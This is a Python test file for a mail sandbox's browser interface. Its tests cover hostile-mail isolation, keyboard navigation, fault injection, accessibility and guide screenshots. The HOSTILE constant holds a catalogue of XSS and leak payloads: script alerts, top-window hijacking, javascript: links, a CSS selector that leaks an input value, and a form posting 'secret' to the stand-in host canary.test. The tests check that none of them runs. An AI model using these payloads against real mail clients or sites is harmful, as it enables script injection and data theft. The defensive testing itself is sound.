"""The page in a browser: its functions, hostile mail, accessibility, and the pictures of it in the guides.

`WRITE_SCREENS=1 pytest -m browser tests/sandbox/page/test_browser.py -k picture` takes the pictures again.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import re
import shutil
from datetime import UTC, datetime
from importlib import import_module
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from directsuite.sandbox.messaging import mailboxes
from directsuite.sandbox.page import views
from directsuite.sandbox.samples import ALICE, BOB
from directsuite.sandbox.server import Sandbox
from tests.sandbox.page.conftest import CREDENTIALS, SLOW_RECIPIENT, make_referral
from tests.testing.project import ROOT

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    import aiohttp
    from playwright.async_api import Browser, Dialog, Page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [pytest.mark.browser, pytest.mark.skipif(CHROMIUM is None, reason="Chromium isn't installed")]
pytest.importorskip("playwright", reason="playwright isn't installed")

HOSTILE = """
<html><head>
<title>x</title><base href="http://canary.test/base/">
<meta http-equiv="refresh" content="0;url=http://canary.test/refresh">
<link rel="stylesheet" href="http://canary.test/sheet.css">
<link rel="preconnect" href="http://canary.test"><link rel="dns-prefetch" href="http://canary.test">
<link rel="prefetch" href="http://canary.test/prefetch"><link rel="icon" href="http://canary.test/icon">
<link rel="preload" as="image" href="http://canary.test/preload"><link rel="manifest" href="http://canary.test/m">
<style>
@import url("http://canary.test/import.css");
@font-face { font-family: f; src: url("http://canary.test/font"); }
body { background: url("http://canary.test/background"); font-family: f; cursor: url("http://canary.test/c"), auto; }
input[value^="s"] { background: url("http://canary.test/leak?s"); }
</style>
<script>alert(1); parent.document.title = "taken"; top.location = "http://canary.test/top"</script>
<script src="http://canary.test/script.js"></script>
</head><body onload="alert(2)">
<img src="http://canary.test/img" onerror="alert(3)"><img srcset="http://canary.test/srcset 1x">
<svg onload="alert(4)"><image href="http://canary.test/svg"/><script>alert(5)</script>
<use href="http://canary.test/use#x"/><animate onbegin="alert(6)" attributeName="x" dur="1s"/>
<foreignObject><iframe src="http://canary.test/foreign"></iframe></foreignObject></svg>
<iframe src="http://canary.test/frame"></iframe><iframe srcdoc="<script>alert(7)</script>"></iframe>
<object data="http://canary.test/object"></object><embed src="http://canary.test/embed">
<video src="http://canary.test/video" poster="http://canary.test/poster" autoplay></video>
<audio src="http://canary.test/audio" autoplay></audio>
<form action="http://canary.test/form" method="post" target="_top"><input name="a" value="secret" autofocus>
<button id="button">Go on</button></form>
<p><a id="link" href="http://canary.test/link" ping="http://canary.test/ping">a link</a>
<a id="top" href="http://canary.test/top" target="_top">another</a>
<a id="script" href="javascript:alert(8)">a third</a>
<a id="self" href="/page/do/POST/reset">a fourth</a></p>
<p style="position: fixed; inset: 0; background-image: url(http://canary.test/inline)">text</p>
</body></html>
"""


class Canary:
    def __init__(self) -> None:
        self.visits = list[bytes]()
        self.port = 0

    async def visited(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        place = len(self.visits)
        self.visits.append(b"a connection")
        with contextlib.suppress(ConnectionError):
            self.visits[place] = await reader.readline()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            await writer.drain()
        writer.close()


@pytest.fixture
async def canary() -> AsyncIterator[Canary]:
    canary = Canary()
    server = await asyncio.start_server(canary.visited, "127.0.0.1", 0)
    canary.port = server.sockets[0].getsockname()[1]
    async with server:
        yield canary


@pytest.fixture
async def browser(canary: Canary) -> AsyncIterator[Browser]:
    """Chromium, which resolves canary.test to the canary."""
    from playwright.async_api import async_playwright

    rules = f"--host-resolver-rules=MAP canary.test:80 127.0.0.1:{canary.port}, EXCLUDE 127.0.0.1"
    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", rules])
        yield launched
        await launched.close()


class Watched:
    def __init__(self, page: Page, sandbox: Sandbox) -> None:
        self.page, self.root = page, sandbox.root_url
        page.set_default_timeout(10_000)
        self.complaints = list[str]()
        self.dialogs = list[str]()
        page.on("dialog", self._dismiss)
        page.on("console", lambda message: self.complaints.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))

    async def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    async def open(self, path: str) -> None:
        response = await self.page.goto(f"{self.root}{path}")
        assert response is not None
        assert response.status == 200


@pytest.fixture
async def tab(browser: Browser, populated_sandbox: Sandbox) -> Watched:
    return Watched(await browser.new_page(), populated_sandbox)


async def message_of(sandbox: Sandbox, html: str) -> str:
    """Deliver a message with this HTML. Return its path."""
    raw = f"From: evil@canary.test\r\nSubject: hostile\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{html}"
    uid = await sandbox.deliver(ALICE, raw.encode())
    folder = await sandbox.read(lambda connection: mailboxes.get_folder(connection, 1, "INBOX").id)
    return f"/page/mail/{ALICE}/{folder}/{uid}"


async def test_the_canary_records_requests(browser: Browser, canary: Canary) -> None:
    page = await browser.new_page()
    await page.goto("http://canary.test/seen")
    assert b"GET /seen HTTP/1.1\r\n" in canary.visits


@pytest.mark.parametrize("neutralised", [True, False], ids=["as it is served", "by sandbox and policy alone"])
async def test_hostile_mail_runs_nothing_and_leaves_nothing(
    neutralised: bool, populated_sandbox: Sandbox, tab: Watched, canary: Canary, monkeypatch: pytest.MonkeyPatch
) -> None:
    html = HOSTILE
    if not neutralised:  # what a policy does not cover is left out: names and connections in advance
        monkeypatch.setattr(views, "neutralize_html", str)
        html = html.replace('rel="preconnect"', "").replace('rel="dns-prefetch"', "")
    path = await message_of(populated_sandbox, html)
    for name in ("link", "top", "script", "self", "button"):
        await tab.open(path)
        frame = tab.page.frames[1]
        await frame.wait_for_load_state("networkidle")
        await frame.locator(f"#{name}").dispatch_event("click")
        await tab.page.wait_for_load_state("networkidle")
    assert (tab.page.url, await tab.page.title()) == (f"{tab.root}{path}", "hostile · directsuite sandbox")
    assert tab.dialogs == []
    assert len(tab.page.context.pages) == 1
    # A browser may connect to the target of a link before the policy forbids the navigation.
    assert set(canary.visits) <= (set() if neutralised else {b"", b"a connection"})


async def test_messages_are_found_and_read_by_keys(populated_sandbox: Sandbox, tab: Watched) -> None:
    await tab.open(f"/page/mail/{ALICE}")
    keys, page = tab.page.keyboard, tab.page
    await keys.press("/")
    await keys.type("count, rep")
    await page.wait_for_url("**q=count**")
    await page.locator("#live tbody tr:only-child").wait_for()
    await keys.press("Escape")
    await keys.press("j")
    await keys.press("Enter")
    await page.get_by_role("heading", name="Blood count, repeated").wait_for()
    async with page.expect_download() as download:
        await page.get_by_role("link", name="count.csv").click()
    assert (await download.value).suggested_filename == "count.csv"
    await page.get_by_text("All headers").click()
    await page.get_by_text("Message-ID", exact=True).wait_for()
    await keys.press("u")
    await page.get_by_role("heading", name=ALICE).wait_for()
    assert tab.complaints == []


async def test_changes_appear_without_a_reload(
    populated_sandbox: Sandbox, tab: Watched, http: aiohttp.ClientSession
) -> None:
    page = tab.page
    await tab.open("/page/calls")
    async with page.expect_response("**/page/calls"):
        await http.post(f"{populated_sandbox.message_url}/GetMessageCount/INBOX", json=CREDENTIALS)
    await page.get_by_role("link", name="GetMessageCount").click()
    await page.get_by_text('"password": "•••"').wait_for()
    await tab.open(f"/page/mail/{ALICE}")
    await populated_sandbox.deliver(ALICE, b"From: a@b.test\r\nSubject: just now\r\n\r\n")
    await page.get_by_role("link", name="just now").wait_for()
    assert tab.complaints == []


@pytest.mark.parametrize("path", ["/page/calls", "/page/calls/1"])
async def test_the_number_of_active_faults_appears_and_leads_to_them(
    path: str, populated_sandbox: Sandbox, tab: Watched, http: aiohttp.ClientSession
) -> None:
    url = f"{populated_sandbox.message_url}/GetMessageCount/INBOX"
    await http.post(url, json=CREDENTIALS)
    await tab.open(path)
    badge = tab.page.get_by_role("link", name="active fault")
    assert await badge.count() == 0
    populated_sandbox.inject_fault("GetMessageCount", "status")
    await badge.get_by_text("1 active fault", exact=True).wait_for()
    await http.post(url, json=CREDENTIALS)
    await badge.wait_for(state="detached")
    populated_sandbox.inject_fault("Send", "hang")
    await badge.click()
    await tab.page.wait_for_url("**/page/controls#faults")
    assert tab.complaints == []


async def test_calls_without_effect_appear_in_the_overview(
    populated_sandbox: Sandbox, tab: Watched, http: aiohttp.ClientSession
) -> None:
    await tab.open("/")
    await http.post(f"{populated_sandbox.message_url}/GetMessageCount/INBOX", json=CREDENTIALS)
    await tab.page.get_by_role("link", name="GetMessageCount").wait_for()


async def test_a_fault_with_a_body_is_added(populated_sandbox: Sandbox, tab: Watched) -> None:
    await tab.open("/page/controls")
    form = tab.page.get_by_role("form", name="Add a fault")
    await form.get_by_label("Response body").fill('{"success": false}')
    await form.get_by_label("Requests to let through first").fill("2")
    await form.get_by_role("button").click()
    await tab.page.get_by_text("after 2 requests").wait_for()
    [rule] = populated_sandbox.faults()
    assert (rule["kind"], rule["body"], rule["skip"]) == ("status", {"success": False}, 2)


async def test_forms_change_clock_faults_accounts_and_reset(populated_sandbox: Sandbox, tab: Watched) -> None:
    page = tab.page
    await tab.open("/page/controls")
    await page.get_by_role("button", name="Stop the clock").click()
    await page.get_by_role("button", name="Resume the clock").wait_for()
    await page.get_by_role("status").get_by_text("The clock was stopped at").wait_for()
    stopped = populated_sandbox.clock.now()
    await page.get_by_role("button", name="+1 hour").click()
    await page.wait_for_load_state()
    assert (populated_sandbox.clock.now() - stopped).total_seconds() == 3600
    await page.locator("select[name=operation]").select_option("Send")
    await page.locator("select[name=kind]").select_option("reset_after")
    await page.get_by_role("button", name="Add the fault").click()
    await page.get_by_role("button", name="Remove fault").wait_for()
    notice = page.get_by_role("status").get_by_text("Fault 1 was added: reset_after for Send.")
    header, title = page.locator("body > header"), page.get_by_role("heading", name="Faults")
    assert await notice.evaluate("each => each.getBoundingClientRect().bottom < innerHeight")
    assert await title.evaluate("each => each.getBoundingClientRect().top") >= await header.evaluate(
        "each => each.getBoundingClientRect().bottom"
    )
    assert populated_sandbox.faults()[0]["kind"] == "reset_after"
    await page.get_by_role("button", name="Remove fault").click()
    await page.get_by_text("There are no faults.").wait_for()
    form = page.get_by_role("form", name="Add a mailbox")
    await form.get_by_label("Mailbox").fill("carol@direct.example.test")
    await form.get_by_label("Password").fill("secret")
    await form.get_by_role("button").click()
    await tab.open("/")
    await page.get_by_role("link", name="carol@direct.example.test").wait_for()
    await tab.open("/page/controls")
    await page.get_by_text("Delete all content").click()
    await page.get_by_role("button", name="Reset the sandbox").click()
    await page.wait_for_load_state()
    await tab.open("/")
    assert await page.get_by_role("link", name="carol@direct.example.test").count() == 0
    assert tab.complaints == []


@pytest.mark.parametrize(
    ("scheme", "width"),
    [
        ("light", 1280),
        ("dark", 390),
        pytest.param("light", 390, marks=pytest.mark.slow),
        pytest.param("dark", 1280, marks=pytest.mark.slow),
    ],
)
async def test_the_page_is_accessible(
    scheme: Any,
    width: int,
    populated_sandbox: Sandbox,
    sent_message_id: str,
    signed_document_id: str,
    patient_address: str,
    browser: Browser,
) -> None:
    axe = import_module("axe_playwright_python.async_playwright").Axe()
    populated_sandbox.inject_fault("Send", "hang")
    page = await browser.new_page(color_scheme=scheme, viewport={"width": width, "height": 844})
    views = ["/", f"/page/mail/{ALICE}", "/page/sent", "/page/calls", "/page/calls/1", "/page/documents", "/page/faxes"]
    views += [f"/page/documents/{signed_document_id}", "/page/patients", "/page/effects", "/page/controls"]
    views += [f"/page/mail/{ALICE}?all=1&q=a", f"/page/mail/{ALICE}?folder=INBOX&q=a"]
    views += [f"/page/mail/{ALICE}?folder=INBOX.Sent", await message_of(populated_sandbox, "<p>text</p>")]
    trouble = dict[str, Any]()
    for view in views:
        await page.goto(f"{populated_sandbox.root_url}{view}")
        await page.evaluate("document.querySelectorAll('main > details').forEach(each => each.open = true)")
        found = await axe.run(page)
        if found.violations_count:
            trouble[view] = found.generate_report()
        if await page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
            trouble[f"{view} is too wide"] = width
    await page.goto(f"{populated_sandbox.root_url}/page/controls")
    await page.get_by_role("button", name="Stop the clock").click()
    await page.get_by_role("status").wait_for()
    found = await axe.run(page)
    if found.violations_count:
        trouble["a notice"] = found.generate_report()
    assert trouble == {}


@pytest.mark.parametrize("width", [320, 390])
async def test_lists_fit_a_narrow_screen(
    width: int,
    populated_sandbox: Sandbox,
    sent_message_id: str,
    signed_document_id: str,
    patient_address: str,
    browser: Browser,
) -> None:
    populated_sandbox.inject_fault("Send", "hang")
    page = await browser.new_page(viewport={"width": width, "height": 844})
    lists = [
        "/",
        f"/page/mail/{ALICE}",
        f"/page/mail/{ALICE}?all=1",
        "/page/calls",
        "/page/documents",
        f"/page/documents/{signed_document_id}",
    ]
    lists += ["/page/faxes", "/page/patients", "/page/effects", "/page/controls"]
    for path in lists:
        await page.goto(f"{populated_sandbox.root_url}{path}")
        assert await page.evaluate(_MEASURE_CELLS) == [], path


async def test_words_are_complete_and_shortcuts_hidden_on_a_narrow_screen(
    populated_sandbox: Sandbox, browser: Browser
) -> None:
    page = await browser.new_page(viewport={"width": 390, "height": 844})
    await page.goto(f"{populated_sandbox.root_url}/page/controls")
    for summary in await page.locator("summary").all():
        assert await summary.evaluate("each => getComputedStyle(each).wordBreak") == "normal"
    assert not await page.get_by_text("Keyboard shortcuts").is_visible()
    await page.set_viewport_size({"width": 1280, "height": 844})
    assert await page.get_by_text("Keyboard shortcuts").is_visible()


_MEASURE_CELLS = """[...document.querySelectorAll("tbody tr > *, .wide, .unbroken, time")].flatMap((cell) => {
  const { left, right, height } = cell.getBoundingClientRect();
  const isBroken = cell.matches(".unbroken, time") && height > 30;
  const isEmpty = cell.matches("td") && !cell.textContent.trim() && height > 0;
  const isCut = right > innerWidth || left < 0 || cell.scrollWidth > cell.clientWidth + 1 && cell.matches(".wide");
  return isBroken || isEmpty || isCut ? [cell.textContent.trim()] : [];
})"""
"""The texts of cells that are cut off or empty, and of ids and times that are broken into lines."""


@pytest.mark.parametrize("width", [1280, 390])
async def test_a_call_shows_path_title_status_duration_and_effect(
    width: int, populated_sandbox: Sandbox, sent_message_id: str, browser: Browser
) -> None:
    page = await browser.new_page(viewport={"width": width, "height": 844})
    await page.goto(f"{populated_sandbox.root_url}/page/calls")
    row = page.locator("tbody tr")
    for text in ("Send a message.", "PUT /message-rest/api/message/Send", "200", sent_message_id):
        assert await row.get_by_text(text).first.is_visible(), text
    assert re.search(r"[0-9.]+ ms" if width == 390 else r"[0-9]\.[0-9]", await row.inner_text())


PICTURES = {"sandbox-page": "/page/mail/{alice}/{sent}/1", "sandbox-calls": "/page/calls"}
VARYING = (
    (r"\d\d:\d\d:\d\d\.\d{3}", "12:00:00.000"),
    (r"\t\d+\.\d(?=\t)", "\t1.0"),
    (r"\b[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\b", "<id>"),
)
"""The time, the milliseconds and the ids of a call."""


@pytest.mark.parametrize("name", PICTURES)
async def test_a_picture_in_the_guides_shows_the_page_of_today(
    name: str,
    populated_sandbox: Sandbox,
    signed_document_id: str,
    patient_address: str,
    http: aiohttp.ClientSession,
    browser: Browser,
) -> None:
    populated_sandbox.clock.freeze(datetime(2026, 5, 1, 12, tzinfo=UTC))
    await _call_services(populated_sandbox, http)
    sent = await populated_sandbox.read(lambda connection: mailboxes.get_folder(connection, 1, "INBOX.Sent").id)
    page = await browser.new_page(viewport={"width": 1200, "height": 690})
    await page.goto(f"{populated_sandbox.root_url}{PICTURES[name].format(alice=ALICE, sent=sent)}")
    text = await page.locator("main").inner_text()
    for pattern, replacement in VARYING:
        text = re.sub(pattern, replacement, text)
    file = ROOT / "directsuite" / "guides" / f"{name}.png"
    if os.environ.get("WRITE_SCREENS"):
        info = PngInfo()
        info.add_itxt("Description", text)
        with Image.open(io.BytesIO(await page.screenshot())) as picture:
            picture.quantize(128, Image.Quantize.MAXCOVERAGE).save(file, optimize=True, pnginfo=info)
    with Image.open(file) as picture:
        assert (picture.size, picture.info["Description"]) == ((1200, 690), text)


async def _call_services(sandbox: Sandbox, http: aiohttp.ClientSession) -> None:
    """Send a message to three recipients, then make a call that is rejected and one that fails at first."""
    recipients = {BOB: "TO", SLOW_RECIPIENT: "TO", "bounce@clinic.example.test": "CC"}
    sandbox.inject_fault("GetMessageCount", "status", status=503)
    for method, path, sent in (
        ("PUT", "Send", make_referral(recipients)),
        ("POST", "GetUIDs/INBOX", CREDENTIALS),
        ("POST", "GetUIDs/INBOX.Nowhere", CREDENTIALS),
        ("POST", "GetMessageCount/INBOX", CREDENTIALS),
        ("POST", "GetMessageCount/INBOX", CREDENTIALS),
    ):
        async with http.request(method, f"{sandbox.message_url}/{path}", json=sent) as response:
            await response.read()
